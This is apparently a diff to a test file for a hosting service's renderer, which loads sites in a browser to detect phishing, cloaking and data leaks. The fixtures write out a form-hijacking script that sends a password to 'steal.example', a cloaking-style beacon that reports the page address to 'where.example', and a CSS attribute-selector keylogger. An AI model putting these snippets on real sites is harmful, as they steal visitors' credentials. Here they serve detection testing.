@@ -9,7 +9,7 @@ import { Readable } from 'node:stream';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { RenderBrowser } from '../src/render/browser.js';
-import { CANARIES } from '../src/render/canaries.js';
+import { type CanaryValues, drawCanaries, PASSWORD_ALPHABET } from '../src/render/canaries.js';
 import { RENDER_FILE_MAX_BYTES, renderPage } from '../src/render/render-page.js';
 import type { SiteRouting } from '../src/serve/site-request.js';
 import { compileSiteRules } from '../src/serve/site-rules.js';
@@ -26,10 +26,14 @@ afterAll(() => browser.close());
 const page = (body: string, script = '') =>
   `<!doctype html><html><head><meta charset="utf-8"><title>测试</title></head><body>${body}<script>${script}</script></body></html>`;
 
+/** A site's address on the default install, as a visitor on localhost reaches it. */
+const localAddress = () => `http://p${next++}.localhost:3001/`;
+
 async function render(
   files: Record<string, string>,
   loadTimeoutMs = 30_000,
   routing: SiteRouting | null = null,
+  extra: { address?: string; canaries?: CanaryValues } = {},
 ) {
   const map = new Map(
     Object.entries(files).map(([path, text]) => {
@@ -41,13 +45,13 @@ async function render(
   return renderPage(
     await browser.get(),
     {
-      id: next++,
+      address: extra.address ?? localAddress(),
       entryFile: 'index.html',
       files: map,
       routing,
       read: async (f) => Readable.from([(f as unknown as { body: Buffer }).body]),
     },
-    { allowPublicAssets: false, loadTimeoutMs },
+    { allowPublicAssets: false, loadTimeoutMs, ...(extra.canaries ? { canaries: extra.canaries } : {}) },
   );
 }
 
@@ -105,7 +109,7 @@ describe("the site's files in the render's memory", () => {
     await renderPage(
       await browser.get(),
       {
-        id: next++,
+        address: localAddress(),
         entryFile: 'index.html',
         files,
         routing: null,
@@ -323,8 +327,60 @@ describe('the visitor', () => {
   });
 
   it('canaries are what their fields expect', () => {
-    expect(CANARIES.card).toMatch(/^\d{16}$/);
-    expect(CANARIES.id_number).toMatch(/^\d{17}[\dX]$/);
+    const canaries = drawCanaries();
+    expect(canaries.card).toMatch(/^\d{16}$/);
+    expect(canaries.id_number).toMatch(/^\d{17}[\dX]$/);
+  });
+});
+
+describe('where the page runs, and what it is given', () => {
+  // What a cloaking kit reads to tell a review from a visitor: where it runs, and what it is typed.
+  const where = `fetch('https://where.example/w?' + encodeURIComponent(location.href + '|' + isSecureContext));`;
+
+  it("opens the page at the live site's own address", async () => {
+    const { observations: obs } = await render({ 'index.html': page('<h1>博客</h1>', where) }, 30_000, null, {
+      address: 'http://zhangsan-blog.localhost:3001/',
+    });
+    expect(obs.externalRequests.map((r) => decodeURIComponent(r.url))).toContain(
+      'https://where.example/w?http://zhangsan-blog.localhost:3001/|true',
+    );
+  });
+
+  it('opens a site under its path on a shared host, where its root-absolute files load as for visitors', async () => {
+    // By IP address the default install serves sites under /sites/{key}/ on the sites port; a
+    // root-absolute script comes through the sites host's rescue (serve/root-rescue.ts).
+    const { observations: obs } = await render(
+      {
+        'index.html': page(
+          '<h1>路径</h1><script src="/assets/app.js"></script><script src="/gone.js"></script>',
+        ),
+        'assets/app.js': where,
+      },
+      30_000,
+      null,
+      { address: 'http://192.168.1.5:3001/sites/blog/' },
+    );
+    expect(obs.externalRequests.map((r) => decodeURIComponent(r.url))).toContain(
+      'https://where.example/w?http://192.168.1.5:3001/sites/blog/|false',
+    );
+    // What the site lacks is named by its own path, as its files are.
+    expect(obs.missing).toEqual(['/gone.js']);
+  });
+
+  it('types values of its own in each render, and finds them sent', async () => {
+    const form =
+      '<form id="f"><input type="password" name="pw" placeholder="密码"><button>登录</button></form>';
+    const steal = `document.getElementById('f').onsubmit = (e) => { e.preventDefault();
+      fetch('https://steal.example/s?p=' + encodeURIComponent(e.target.pw.value)); };`;
+    const sent: string[] = [];
+    for (let i = 0; i < 2; i++) {
+      const { observations: obs } = await render({ 'index.html': page(form, steal) });
+      const leak = obs.leaks.find((l) => l.kind === 'password' && l.host === 'steal.example');
+      expect(leak).toBeDefined();
+      sent.push(leak?.url ?? '');
+    }
+    // A kit that recognised the value one render typed would not recognise the next one's.
+    expect(sent[0]).not.toBe(sent[1]);
   });
 });
 
@@ -351,7 +407,8 @@ describe('hidden channels', () => {
   it('finds a CSS attribute-selector keylogger', async () => {
     // The field mirrors its value into the attribute (as some frameworks do); the stylesheet asks
     // one address per last character typed.
-    const chars = [...new Set(CANARIES.password)];
+    // Every character a drawn password can hold: the render's password is its own.
+    const chars = [...PASSWORD_ALPHABET];
     const css = chars
       .map(
         (c) =>
@@ -377,12 +434,21 @@ describe('hidden channels', () => {
   });
 
   it("keeps the render's bindings from the page, and bounds the hints it reads", async () => {
+    // Values the page knows beforehand, so its late hint carries one.
+    const canaries = drawCanaries();
     // A page that tries the bindings itself finds none; one that adds 300 hints has 200 read.
     const script = `document.title = [typeof window.__sitehallHint, typeof window.__sitehallDevice, typeof window.__sitehallPermission, typeof window.__sitehallKeys].join(',');
       for (let i = 0; i < 300; i++) { const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//h' + i + '.x.top'; document.head.appendChild(l); }
-      const late = document.createElement('link'); late.rel = 'preconnect'; late.href = 'https://${CANARIES.username}.late.top'; document.head.appendChild(late);
+      const late = document.createElement('link'); late.rel = 'preconnect'; late.href = 'https://${canaries.username}.late.top'; document.head.appendChild(late);
       fetch('https://title.example/t?' + document.title, { method: 'POST', body: 'x' });`;
-    const { observations: obs } = await render({ 'index.html': page('<h1>循环</h1>', script) });
+    const { observations: obs } = await render(
+      { 'index.html': page('<h1>循环</h1>', script) },
+      30_000,
+      null,
+      {
+        canaries,
+      },
+    );
     expect(obs.externalRequests.map((r) => r.url)).toContain(
       'https://title.example/t?undefined,undefined,undefined,undefined',
     );
